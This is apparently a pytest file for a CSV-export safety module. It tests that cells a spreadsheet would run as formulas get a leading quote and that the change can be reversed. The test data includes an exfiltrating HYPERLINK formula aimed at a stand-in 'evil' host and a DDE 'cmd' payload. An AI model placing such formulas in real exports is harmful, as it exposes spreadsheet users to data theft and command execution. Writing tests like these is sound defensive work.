"""Formula injection (OWASP CSV Injection): every text cell a spreadsheet would run gets a leading quote."""

from __future__ import annotations

import csv
import io
import itertools

import pytest

from bulkqa.csv_safety import neutralise_cell, restore_cell, safe_writer

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil/?"&A1)',
    "+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",  # leading space: some importers skip it
    "\u00a0=1",
    "＝1",  # full-width equals
    "－1",
    "-",
]
HARMLESS = ["Dog", "Sea lion", "'s Hertogenbosch", "a=b", "1-2", "", "'", "''x", "s3://b/k.jpg"]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_dangerous_cells_get_a_leading_quote(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_harmless_cells_are_unchanged(cell: str) -> None:
    assert neutralise_cell(cell) == cell


def test_numbers_stay_numbers() -> None:
    assert neutralise_cell(-3) == -3 and neutralise_cell(-0.5) == -0.5 and neutralise_cell(None) is None


def test_restore_is_the_exact_inverse() -> None:
    alphabet = ["'", "=", " ", "a", "-", "\t"]
    for size in range(5):
        for chars in itertools.product(alphabet, repeat=size):
            text = "".join(chars)
            safe = neutralise_cell(text)
            assert restore_cell(safe) == text, repr(text)
            # And what we write never starts a formula once the quote is there.
            if safe != text:
                assert safe.startswith("'")


def test_the_writer_neutralises_and_stays_readable() -> None:
    buffer = io.StringIO()
    rows = [["label", "n"], ["=cmd|' /C calc'!A0", 1], ["a\rb", 2], ['x,y\n"z"', 3]]
    safe_writer(buffer).writerows(rows)
    back = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert back[1] == ["'=cmd|' /C calc'!A0", "1"]
    assert back[2] == ["a\rb", "2"]  # a bare CR is quoted: the row is not split
    assert back[3] == ['x,y\n"z"', "3"]
    assert [restore_cell(r[0]) for r in back[1:]] == [r[0] for r in rows[1:]]
